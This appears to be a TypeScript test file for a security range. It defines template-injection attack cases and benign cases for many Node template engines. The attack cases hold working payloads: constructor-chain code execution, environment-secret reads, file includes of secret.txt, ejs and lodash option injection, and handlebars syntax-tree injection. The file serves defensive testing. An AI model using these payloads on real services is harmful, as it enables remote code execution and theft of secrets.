// Pages of the studio: whose the template is decides, not what is in it.
import type { RangeCase, RangePlaces } from '../case.ts';
import { get, post, shelf } from './shop.ts';

export function studioPageCases(places: RangePlaces): RangeCase[] {
  const template = shelf('template-injection', places, 'studio');
  const leak = { kind: 'answer', holds: places.secret } as const;
  const builtin = (file: string): string => `process.getBuiltinModule('fs').writeFileSync('${file}','')`;
  const call = (file: string): string => `global.process.getBuiltinModule('fs').writeFileSync('${file}','')`;
  const made = (name: string, path: string, make: (file: string) => Record<string, unknown>): void => {
    const file = `${places.outside}/${places.token()}`;
    template.attack(name, post(`/pages/${path}`, make(file)), { kind: 'file', path: file });
  };
  const chain = (file: string): string => `constructor.constructor("${builtin(file)}")()`;
  const payloads: Readonly<Record<string, readonly ((file: string) => string)[]>> = {
    ejs: [
      (file) => `<%= ${builtin(file)} %>`,
      (file) => `<% ${builtin(file)} %>`,
      (file) => `<%- items.constructor.${chain(file)} %>`,
      (file) => `%><% ${builtin(file)} %>`,
    ],
    'ejs-client': [(file) => `<%= ${builtin(file)} %>`],
    pug: [
      (file) => `#{${call(file)}}`,
      (file) => `p= ${call(file)}`,
      (file) => `- ${call(file)}`,
      (file) => `p(a=${call(file)})`,
      (file) => `\n| #{${call(file)}}`,
    ],
    nunjucks: [
      (file) => `{{ range.${chain(file)} }}`,
      (file) =>
        `{{ title.${chain(file).replace('constructor', 'toString.constructor').replace('.constructor(', '(')} }}`,
      (file) => `{% set x = cycler.${chain(file)} %}`,
      (file) => `{{ range['const'+'ructor']("${builtin(file)}")() }}`,
      (file) => `{% if range.constructor("${builtin(file)}")() %}{% endif %}`,
    ],
    dot: [
      (file) => `{{= ${builtin(file)} }}`,
      (file) => `{{ ${builtin(file)}; }}`,
      (file) => `{{? ${builtin(file)} }}{{?}}`,
      (file) => `{{## def.x: ${file} #}}{{= ${builtin(file)} }}`,
    ],
    art: [
      (file) => `{{ $data.title.${chain(file)} }}`,
      (file) => `<% title.${chain(file)} %>`,
      (file) => `{{ set x = title.${chain(file)} }}`,
      (file) => `<%= title['constructor']['constructor']("${builtin(file)}")() %>`,
    ],
    twig: [(file) => `{{ title.${chain(file)} }}`],
    velocity: [
      (file) => `#set($x = "".${chain(file)})$x`,
      (file) => `$title.constructor.constructor("${builtin(file)}").call()`,
      (file) => `#set($f = $title.toString.constructor)$f("${builtin(file)}")`,
      (file) => `#set($r = $title.constructor.constructor("${builtin(file)}"))$r.apply()`,
    ],
    lodash: [
      (file) => `<%= ${builtin(file)} %>`,
      (file) => `\${${builtin(file)}}`,
      (file) => `<% ${builtin(file)} %>`,
      (file) => `<%- items.${chain(file)} %>`,
    ],
    angular: [(file) => chain(file), (file) => `title.${chain(file)}`],
    handlebars: [(file) => `{{#with title as |t|}}{{t.${chain(file)}}}{{/with}}`],
  };
  for (const [engine, makes] of Object.entries(payloads))
    for (const [at, make] of makes.entries()) {
      made(`preview ${at}`, `preview/${engine}`, (file) => ({ template: make(file) }));
      made(`greeting ${at}`, `greeting/${engine}`, (file) => ({ name: make(file) }));
    }
  template.attack('the environment', post('/pages/preview/ejs', { template: '<%= process.env.RANGE_SECRET %>' }), leak);
  template.attack('the environment', post('/pages/greeting/lodash', { name: '${process.env.RANGE_SECRET}' }), leak);
  template.attack('the environment', post('/pages/greeting/dot', { name: '{{=process.env.RANGE_SECRET}}' }), leak);
  template.attack('the environment', post('/pages/greeting/pug', { name: '#{global.process.env.RANGE_SECRET}' }), leak);
  template.attack(
    'an include',
    post('/pages/preview/ejs', { template: `<%- include('${places.outside}/secret.txt') %>` }),
    leak,
  );
  template.attack(
    'an include',
    post('/pages/preview/nunjucks', { template: `{% include "${places.outside}/secret.txt" %}` }),
    leak,
  );
  template.attack('an include', post('/pages/preview/pug', { template: `include ${places.outside}/secret.txt` }), leak);
  template.attack(
    'an include',
    post('/pages/preview/art', { template: `{{include '${places.outside}/secret.txt'}}` }),
    leak,
  );
  template.attack(
    'a source',
    post('/pages/preview/twig', { template: `{{ source("${places.outside}/secret.txt") }}` }),
    leak,
  );
  template.attack(
    'an include',
    post('/pages/preview/twig', { template: `{% include "${places.outside}/secret.txt" %}` }),
    leak,
  );
  made('outputFunctionName', 'options/ejs', (file) => ({ options: { outputFunctionName: `x;${builtin(file)};y` } }));
  made('localsName', 'options/ejs', (file) => ({ options: { localsName: `x=${builtin(file)}` } }));
  made('escapeFunction', 'options/ejs', (file) => ({
    options: { client: true, escapeFunction: `1;${builtin(file)}` },
  }));
  made('destructuredLocals', 'options/ejs', (file) => ({ options: { destructuredLocals: [`a=${builtin(file)}`] } }));
  made('view options', 'options/ejs-data', (file) => ({
    settings: { 'view options': { outputFunctionName: `x;${builtin(file)};y` } },
  }));
  made('escape, view options', 'options/ejs-data', (file) => ({
    settings: { 'view options': { client: true, escapeFunction: `1;${builtin(file)}` } },
  }));
  made('variable', 'options/lodash', (file) => ({ options: { variable: `a=${builtin(file)}` } }));
  made('sourceURL', 'options/lodash', (file) => ({ options: { sourceURL: `\u2028${builtin(file)}\n` } }));
  made('imports', 'options/lodash', (file) => ({ options: { imports: { [`a=${builtin(file)}`]: 1 } } }));
  made('varname', 'options/dot', (file) => ({ settings: { varname: `it=${builtin(file)}` } }));
  made('a syntax tree', 'ast/handlebars', (file) => ({
    template: {
      type: 'Program',
      body: [
        {
          type: 'MustacheStatement',
          path: 0,
          params: [{ type: 'NumberLiteral', value: builtin(file) }],
          loc: { start: 0, end: 0 },
        },
      ],
    },
  }));
  made('a syntax tree, a helper', 'ast/handlebars', (file) => ({
    template: {
      type: 'Program',
      body: [
        {
          type: 'MustacheStatement',
          path: { type: 'PathExpression', depth: 0, parts: ['lookup'], original: 'lookup', data: false },
          params: [
            { type: 'PathExpression', depth: 0, parts: [], original: 'this', data: false },
            { type: 'NumberLiteral', value: `{},{},{})) + ${builtin(file)};//`, original: 1 },
          ],
          loc: { start: 0, end: 0 },
        },
      ],
    },
  }));

  const prose = [
    'Ann',
    "O'Brien",
    '{{name}}',
    '<%= name %>',
    '#{name}',
    '${price}',
    '{% if x %}',
    'a { b } c',
    '<b>bold</b>',
    '$name costs $5',
    '{{constructor.constructor}}',
    '%> <%',
    '[[x]]',
    '@@ # | >',
    'a\nb',
  ];
  for (const engine of ['ejs', 'pug', 'nunjucks', 'handlebars', 'dot', 'art', 'hogan', 'twig', 'velocity', 'lodash'])
    for (const name of prose) template.benign(name, post(`/pages/safe/${engine}`, { name }));
  for (const engine of ['ejs', 'handlebars', 'lodash'])
    for (const name of prose) template.benign(name, get(`/pages/safe/stored/${engine}`, { name }));
  for (const name of ['welcome', 'goodbye', 'none', '{{name}}'])
    template.benign(name, post('/pages/safe/named', { template: name, name: 'Ann' }));
  for (const engine of ['ejs', 'pug', 'nunjucks', 'handlebars', 'dot', 'art', 'hogan', 'twig', 'velocity', 'lodash'])
    for (const name of ['Ann', 'Bob Smith', 'a-b', 'Zoë', 'x (y)', '50%', 'a, b; c'])
      template.benign(name, post(`/pages/greeting/${engine}`, { name }));
  for (const [engine, text] of [
    ['handlebars', 'plain words only'],
    ['hogan', 'Dear {{title}} {{#items}}{{.}}{{/items}}'],
    ['nunjucks', 'plain words only'],
    ['twig', 'plain words only'],
    ['velocity', 'plain words only'],
    ['ejs', 'plain words only'],
    ['dot', 'plain words only'],
    ['lodash', 'plain words only'],
    ['pug', 'p plain words'],
  ] as const)
    template.benign(text, post(`/pages/preview/${engine}`, { template: text }));
  template.benign(
    'options',
    post('/pages/options/ejs', { name: 'Ann', options: { rmWhitespace: true } }),
    post('/pages/options/pug', { name: 'Ann', doctype: 'html' }),
  );
  template.benign(
    'options',
    post('/pages/options/ejs-data', { name: 'Ann', title: 'x; y', settings: { theme: 'dark' } }),
  );
  template.benign(
    'options',
    post('/pages/options/art', { name: 'Ann', options: { minimize: false } }),
    post('/pages/options/handlebars', { name: 'Ann', options: { noEscape: true } }),
  );
  return template.cases;
}
